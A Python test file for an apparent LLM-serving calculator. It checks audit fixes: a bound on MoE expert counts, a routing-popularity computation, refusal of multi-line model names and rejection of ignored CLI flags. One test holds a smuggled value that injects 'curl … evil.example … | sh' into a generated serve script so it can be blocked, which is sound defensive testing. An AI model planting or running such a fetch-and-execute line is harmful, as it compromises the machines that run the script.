"""Hostile models and flags, from an audit (2026-12-05): a 336-character link of a MoE with 10⁷ experts held a
server core past its session (the routing tables are E wide, the popularity fill was E²); a name with newlines wrote
a runnable line into the serve script's comment; `search --gpu typo` and a stray --custom-model were ignored."""

import base64
import json
import zlib

import numpy as np
import pytest

from boundary.cli import main
from calc.custom import decode_custom_model, encode_custom_model
from calc.errors import InputError
from calc.hf_config import model_from_hf_config
from calc.model_spec import MAX_EXPERTS
from calc.routing import distinct_experts, popularity
from calc.serve_command import serve_lines

TINY = dict(model_type="llama", num_hidden_layers=2, hidden_size=64, intermediate_size=128, num_attention_heads=4,
            vocab_size=100, max_position_embeddings=4096)  # fmt: skip


def _link(fields: dict) -> str:
    """A custom_model value as a link would carry it (calc.custom's encoding, with any fields)."""
    raw = json.dumps(fields).encode()
    return base64.urlsafe_b64encode(zlib.compress(raw)).decode().rstrip("=")


def test_an_expert_count_beyond_any_published_model_is_refused_by_name():
    """The most routed experts a published MoE has is 512 (Qwen3-Next); the bound is 4,096, on every field that
    names them, from a config.json and from a link alike."""
    moe = {**TINY, "num_experts_per_tok": 8, "moe_intermediate_size": 32}
    for field in ("num_experts", "num_local_experts", "n_routed_experts"):
        with pytest.raises(InputError) as e:
            model_from_hf_config({**moe, field: 10**7})
        assert f"{field}: at most {MAX_EXPERTS:,}" in str(e.value)
    ok = model_from_hf_config({**moe, "num_experts": MAX_EXPERTS})
    fields = json.loads(zlib.decompress(base64.urlsafe_b64decode(encode_custom_model(ok) + "==")))
    with pytest.raises(InputError) as e:
        decode_custom_model(_link({**fields, "num_experts": 10**7, "num_experts_per_tok": 10**7}))
    assert e.value.field == "custom_model" and "at most 4,096" in str(e.value)


def test_the_popularity_fill_is_the_loop_it_replaced():
    """q_i = min(1, c · i^−s) with Σ q_i = k, filled from the top: the one-pass form against the E-pass loop it
    replaced, written out here, and the widest case (E = k = 4,096) whose sum is k."""
    def loop(experts, k, skew):
        w = np.arange(1, experts + 1, dtype=float) ** -skew
        k = min(float(k), float(experts))
        for full in range(experts):
            c = (k - full) / w[full:].sum()
            if c * w[full] <= 1.0:
                return np.concatenate([np.ones(full), c * w[full:]])
        return np.ones(experts)

    for experts, k, skew in ((8, 2, 0.0), (64, 8, 0.7), (128, 8, 2.5), (256, 200, 3.0), (16, 16, 1.0)):
        assert np.allclose(popularity(experts, k, skew), loop(experts, k, skew))
    q = popularity(MAX_EXPERTS, MAX_EXPERTS, 1.0)
    assert q.sum() == pytest.approx(MAX_EXPERTS) and q.max() <= 1.0
    assert distinct_experts(experts=MAX_EXPERTS, top_k=8, tokens=np.array([1.0, 1e6]), skew=1.0)[1] <= MAX_EXPERTS


def test_a_name_cannot_add_a_line_to_the_serve_script(catalog):
    """`x)\\ncurl … | sh\\n# (` as a config's _name_or_path became two lines of the `# CHECKPOINT={…}` comment and a
    runnable line between them; a link carrying such a name is refused, a config's is made one line."""
    evil = "x)\ncurl -s https://evil.example/p | sh\n# ("
    m = model_from_hf_config({**TINY, "_name_or_path": evil})
    assert "\n" not in m.name and "\n" not in (m.hf_id or "")
    fields = json.loads(zlib.decompress(base64.urlsafe_b64decode(encode_custom_model(m) + "==")))
    with pytest.raises(InputError) as e:
        decode_custom_model(_link({**fields, "name": evil}))
    assert "name: expected one line of text" in str(e.value)
    from calc.scenario import Scenario

    s = Scenario(model="custom", custom_model=encode_custom_model(m), gpu="h100-sxm")
    f = dict(tensor_parallel_size=1, pipeline_parallel_size=1, dtype="int4", kv_cache_dtype="auto",
             max_num_batched_tokens=2048, gpu_memory_utilization=0.9)  # fmt: skip
    (_, script), = serve_lines(s, f, m.name, 256, disaggregated=False, hf_id=None)
    lines = script.splitlines()
    assert len(lines) == 2 and lines[0].startswith("# CHECKPOINT={") and lines[1].startswith("vllm serve")


def test_flags_that_would_be_ignored_are_refused(capsys):
    """`search --gpu` prices and overrides the scenario's GPU: a name that is none ran the default search; a
    --custom-model without --model custom planned the default model."""
    assert main(["search", "--gpu", "nonexistent-gpu"]) == 2
    assert "--gpu: unknown gpu 'nonexistent-gpu'; shipped: a10" in capsys.readouterr().err
    assert main(["plan", "--custom-model", "xyz"]) == 2
    assert "--custom-model: describes the model only with --model custom" in capsys.readouterr().err
